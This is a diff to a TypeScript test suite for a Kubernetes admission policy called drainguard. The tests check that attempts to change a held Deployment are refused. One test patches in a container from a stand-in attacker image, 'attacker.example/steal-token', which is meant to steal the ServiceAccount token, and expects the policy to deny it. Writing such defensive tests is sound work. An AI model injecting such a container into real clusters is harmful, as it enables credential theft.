@@ -78,10 +78,13 @@ async function addSubject(api: Api, path: string) {
 
 const refusedByPolicy = (r: { status: number; body: any }) => r.status === 422 && /ValidatingAdmissionPolicy '[^']+' with binding '[^']+' denied request: /.test(r.body?.message ?? '');
 
-/** The policy takes effect a moment after it is created (a second or two on a real server): until the attack is refused. */
+/**
+ * The policy takes effect a moment after it is created (a second or two on a real server): until the attack is refused.
+ * Each probe sets a new value: a probe that landed before the policy did would make the same one a no-op, which it allows.
+ */
 async function inForce(i: Installed): Promise<void> {
   await cluster.waitFor(async () => {
-    const r = await i.operator.request('PATCH', crb(i.own), { metadata: { labels: { probe: 'x' } } }, MERGE);
+    const r = await i.operator.request('PATCH', crb(i.own), { metadata: { labels: { probe: randomBytes(4).toString('hex') } } }, MERGE);
     return refusedByPolicy(r);
   }, 30_000, "drainguard's admission policy in force");
 }
@@ -131,8 +134,10 @@ test("hold: the held Deployment's pod template and ServiceAccount are not the op
     const path = `/apis/apps/v1/namespaces/${i.ns}/deployments/${i.name}`;
     const account = await i.operator.request('PATCH', path, { spec: { template: { spec: { serviceAccountName: 'default' } } } }, MERGE);
     assert.ok(refusedByPolicy(account), `serviceAccountName: ${account.status} ${JSON.stringify(account.body?.message)}`);
-    const privileged = await i.operator.request('PATCH', path, [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'x', image: 'busybox', securityContext: { privileged: true } } }], JSON_PATCH);
-    assert.ok(refusedByPolicy(privileged), `privileged container: ${privileged.status} ${JSON.stringify(privileged.body?.message)}`);
+    // A container of the attacker's own, running as the Deployment's ServiceAccount. (A privileged one would be
+    // refused before admission by the API server's own --allow-privileged=false, which proves nothing of the policy.)
+    const added = await i.operator.request('PATCH', path, [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'x', image: 'attacker.example/steal-token' } }], JSON_PATCH);
+    assert.ok(refusedByPolicy(added), `added container: ${added.status} ${JSON.stringify(added.body?.message)}`);
     const holder = `drainguard.dev/holder-${randomBytes(8).toString('hex')}`;
     assert.is((await i.operator.request('PATCH', path, { metadata: { finalizers: [holder] } }, MERGE)).status, 200);
     assert.is((await i.operator.request('PATCH', path, { metadata: { finalizers: null } }, MERGE)).status, 200);
